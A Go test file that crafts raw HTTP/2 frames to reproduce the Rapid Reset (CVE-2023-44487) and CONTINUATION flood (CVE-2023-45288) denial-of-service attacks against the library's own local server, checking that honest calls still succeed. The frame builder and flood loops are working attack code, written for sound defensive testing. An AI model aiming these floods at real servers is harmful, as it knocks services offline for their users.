package bridge_test

import (
	"encoding/binary"
	"io"
	"slices"
	"sync"
	"testing"
	"time"

	"github.com/rpcnet-go/rpcnet"
)

// The frames of HTTP/2 (RFC 9113) that these attacks are made of, by hand, since no client
// sends them.
const (
	preface          = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
	typeHeaders      = 1
	typeReset        = 3
	typeSettings     = 4
	typeContinuation = 9
	flagEndStream    = 1
	flagEndHeaders   = 4
)

// frame returns a frame.
func frame(kind, flags byte, stream uint32, payload []byte) []byte {
	n := len(payload)
	b := []byte{byte(n >> 16), byte(n >> 8), byte(n), kind, flags}
	return append(binary.BigEndian.AppendUint32(b, stream), payload...)
}

// header is the header of GET /livez, in HPACK (RFC 7541): indices of the static table, and
// a literal for :authority.
var header = slices.Concat([]byte{0x82, 0x87, 0x44, 6}, []byte("/livez"), []byte{0x41, 9}, []byte("127.0.0.1"))

// besides runs an attack while an honest client makes calls, and returns how many it has
// made and the longest. All must succeed.
func besides(t *testing.T, s *site, attack func()) (calls int, longest time.Duration) {
	t.Helper()
	conn, err := s.ep.Dial(t.Context(), s.ep.Addr().String(), nil)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	done := make(chan struct{})
	var wg sync.WaitGroup
	wg.Go(func() {
		defer close(done)
		attack()
	})
	for {
		begin := time.Now()
		if _, err := rpcnet.CallRaw(t.Context(), conn, "/rpcnet.v1.Describe", []byte("test.v1.Test")); err != nil {
			t.Errorf("an honest call: %v", err)
		}
		calls++
		longest = max(longest, time.Since(begin))
		select {
		case <-done:
			wg.Wait()
			return calls, longest
		default:
		}
	}
}

// calm is how long an honest call takes at most beside an attack.
const calm = 5 * time.Second

// A stranger opens streams and resets them at once (CVE-2023-44487). What runs for him is
// bounded, and sessions are served.
func TestAttackHTTPRapidReset(t *testing.T) {
	t.Parallel()
	s := newSite(t, nil)
	const streams = 50_000
	sent := 0
	calls, longest := besides(t, s, func() {
		c := s.dial("h2")
		go io.Copy(io.Discard, c)
		b := append([]byte(preface), frame(typeSettings, 0, 0, nil)...)
		for ; sent < streams; sent++ {
			id := uint32(2*sent + 1)
			b = append(b, frame(typeHeaders, flagEndHeaders|flagEndStream, id, header)...)
			b = append(b, frame(typeReset, 0, id, []byte{0, 0, 0, 8})...)
			if len(b) > 16<<10 {
				if _, err := c.Write(b); err != nil {
					return
				}
				b = b[:0]
			}
		}
	})
	t.Logf("redteam | streams of HTTP/2 opened and reset: %d | an honest call within %v | %d calls, longest %v", sent, calm, calls, longest.Round(time.Millisecond))
	if longest > calm {
		t.Errorf("an honest call took %v beside %d streams, want %v at most", longest, sent, calm)
	}
}

// A stranger sends a header that never ends in CONTINUATION frames (CVE-2023-45288). The
// connection ends.
func TestAttackHTTPContinuationFlood(t *testing.T) {
	t.Parallel()
	s := newSite(t, nil)
	const most = 16 << 20
	sent := 0
	calls, longest := besides(t, s, func() {
		c := s.dial("h2")
		closed := make(chan struct{})
		go func() {
			defer close(closed)
			io.Copy(io.Discard, c)
		}()
		c.Write(append([]byte(preface), frame(typeSettings, 0, 0, nil)...))
		c.Write(frame(typeHeaders, flagEndStream, 1, header))
		// A field of 100 bytes that is not kept: a literal without indexing.
		field := slices.Concat([]byte{0x00, 6}, []byte("x-bomb"), []byte{100}, make([]byte, 100))
		for i := range field[9:] {
			field[9+i] = 'x'
		}
		for flood := frame(typeContinuation, 0, 1, slices.Repeat(field, 100)); sent < most; sent += len(flood) {
			if _, err := c.Write(flood); err != nil {
				return
			}
		}
		<-closed
	})
	t.Logf("redteam | bytes of a header that never ends: %d | below %d, an honest call within %v | %d calls, longest %v", sent, most, calm, calls, longest.Round(time.Millisecond))
	if sent >= most || longest > calm {
		t.Errorf("%d bytes of a header are taken, and an honest call took %v; want less than %d and %v", sent, longest, most, calm)
	}
}
